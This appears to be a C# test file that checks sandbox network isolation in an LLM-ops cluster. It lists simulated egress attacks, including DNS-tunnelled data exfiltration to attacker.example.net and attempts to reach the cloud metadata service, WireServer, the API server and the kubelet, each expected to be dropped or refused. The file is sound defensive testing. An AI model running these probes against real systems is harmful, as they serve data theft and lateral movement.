namespace LlmOpsSecure.Attacks.Egress;

/// <summary>What is tried around the proxy.</summary>
internal static class NetworkAttacks
{
    private const string Policies = "network policies";
    private const string Names = "names that may be resolved";
    private const string Deny = "network-namespaces-deny-by-default";
    private const string Around = "sandbox-egress-is-not-routed-around";
    private const string Limited = "sandbox-names-are-limited";
    private const string Metadata = "network-metadata-is-unreachable";

    public static IReadOnlyList<Attack<EgressWorld>> All { get; } =
    [
        new("a host that no policy selects reaches what is closed to sandboxes", Policies, "", "metadata service, WireServer, API server, node, attacker.example.net", ControlAsync),
        new("the guard of a class reaches its sandbox", Policies, "", "connected, reached search-1, plain", world => new SandboxCaller(world, "guard-search").DirectAsync("10.244.1.11", 8080)),

        Dropped("a sandbox goes to the metadata service", Metadata, "search-1", EgressWorld.Metadata, 80),
        Dropped("a sandbox goes to WireServer", Metadata, "search-1", EgressWorld.WireServer, 80),
        Dropped("a sandbox goes to WireServer's second port", Metadata, "search-1", EgressWorld.WireServer, 32526),
        Dropped("a sandbox goes to the API server", Deny, "search-1", EgressWorld.ApiServer, 443),
        Dropped("a sandbox goes to the kubelet of its node", Deny, "search-1", EgressWorld.Node, 10250),
        Dropped("a sandbox goes to a listed host around its proxy", Around, "search-1", EgressWorld.Search, 443),
        Dropped("a sandbox goes to the internet on port 443", Around, "search-1", EgressWorld.Attacker, 443),
        Dropped("a sandbox goes to the internet on port 80", Around, "search-1", EgressWorld.Attacker, 80),
        Dropped("a sandbox goes to the internet on port 22", Around, "search-1", EgressWorld.Attacker, 22),
        Dropped("a sandbox goes to a resolver of the internet over TCP", Limited, "search-1", "203.0.113.53", 53),
        Dropped("a sandbox goes to a resolver of the internet over TLS", Limited, "search-1", "203.0.113.53", 853),
        new("a sandbox goes to a resolver of the internet over UDP", Policies, Limited, "dropped", world => new SandboxCaller(world, "search-1").DatagramAsync("203.0.113.53", 53)),
        new("a sandbox speaks QUIC to a listed host", Policies, Around, "dropped", world => new SandboxCaller(world, "search-1").DatagramAsync(EgressWorld.Search, 443)),
        Dropped("a sandbox goes to another sandbox of its class", Deny, "search-1", "10.244.1.12", 8080),
        Dropped("a sandbox goes to a sandbox of another class", Deny, "search-1", "10.244.1.21", 8080),
        Dropped("a sandbox goes to the model server's guard", Deny, "search-1", "10.244.3.11", 8443),
        Dropped("a sandbox goes to the model server itself", Deny, "search-1", "10.244.3.11", 8000),
        Dropped("a sandbox goes to the guard of its class", Deny, "search-1", "10.244.2.12", 8443),
        Dropped("a sandbox goes to the proxy of another class", Deny, "search-1", "10.244.2.21", 3128),
        Dropped("a sandbox of another class goes to this class's proxy", Deny, "mail-1", "10.244.2.11", 3128),
        Dropped("a sandbox goes to Squid past the gate", Deny, "search-1", "10.244.2.11", 3129),
        Dropped("a sandbox goes to the port of the proxy's probes", Deny, "search-1", "10.244.2.11", 3130),
        Dropped("a sandbox goes to an exit of the proxy", Deny, "search-1", "10.244.2.11", 443),
        Dropped("a sandbox goes to another port of the resolver", Deny, "search-1", EgressWorld.ResolverAddress, 443),
        Dropped("a class without a list goes to a proxy", Deny, "python-1", "10.244.2.11", 3128),
        Dropped("a class without a list goes to the internet", Around, "python-1", EgressWorld.Attacker, 443),
        new("a class without a list asks the resolver", Policies, Limited, "no answer", world => new SandboxCaller(world, "python-1").ResolveAsync("data.attacker.example.net")),
        Dropped("somebody else of the cluster goes to a sandbox", Deny, "outsider", "10.244.1.11", 8080),
        Dropped("somebody else of the cluster goes to the proxy", Deny, "outsider", "10.244.2.11", 3128),
        Dropped("a proxy that was taken over goes to the internet", Around, "proxy-search", EgressWorld.Attacker, 443),
        Dropped("a proxy that was taken over goes to another class's host", Around, "proxy-search", "203.0.113.20", 443),
        Dropped("a proxy that was taken over goes to the metadata service", Metadata, "proxy-search", EgressWorld.Metadata, 80),
        Dropped("a proxy that was taken over goes to the API server", Deny, "proxy-search", EgressWorld.ApiServer, 443),
        Dropped("a proxy that was taken over goes to a sandbox", Deny, "proxy-search", "10.244.1.11", 8080),

        Asked("a sandbox resolves the name of its proxy", "", "search-1", "egress-proxy.edge-search.svc.cluster.local", "answered"),
        Asked("a sandbox resolves a name of its list itself", Limited, "search-1", "api.search.example.com", "refused"),
        Asked("a sandbox sends data out in a name", Limited, "search-1", "c2VjcmV0.attacker.example.net", "refused"),
        Asked("a sandbox sends data out in the longest name", Limited, "search-1", $"{new string('a', 63)}.{new string('b', 63)}.{new string('c', 63)}.x.attacker.example.net", "refused"),
        Asked("a sandbox resolves the API server", Limited, "search-1", "kubernetes.default.svc.cluster.local", "refused"),
        Asked("a sandbox resolves the proxy of another class", Limited, "search-1", "egress-proxy.edge-mail.svc.cluster.local", "refused"),
        Asked("a sandbox resolves a name below its proxy's", Limited, "search-1", "c2VjcmV0.egress-proxy.edge-search.svc.cluster.local", "refused"),
        Asked("a proxy that was taken over resolves another name", Limited, "proxy-search", "c2VjcmV0.attacker.example.net", "refused"),
    ];

    private static Attack<EgressWorld> Dropped(string claim, string policy, string from, string address, int port) =>
        new(claim, Policies, policy, "dropped", world => new SandboxCaller(world, from).DirectAsync(address, port));

    private static Attack<EgressWorld> Asked(string claim, string policy, string from, string name, string expected) =>
        new(claim, Names, policy, expected, world => new SandboxCaller(world, from).ResolveAsync(name));

    private static async Task<string> ControlAsync(EgressWorld world)
    {
        var before = world.Reached.Count;
        var outsider = new SandboxCaller(world, "outsider");
        foreach (var (address, port) in new[] { (EgressWorld.Metadata, 80), (EgressWorld.WireServer, 80), (EgressWorld.ApiServer, 6443), (EgressWorld.Node, 10250), (EgressWorld.Attacker, 80) })
        {
            await outsider.DirectAsync(address, port);
        }

        return string.Join(", ", world.Reached.Skip(before).Select(place => place.Replace(", plain", "", StringComparison.Ordinal)));
    }
}
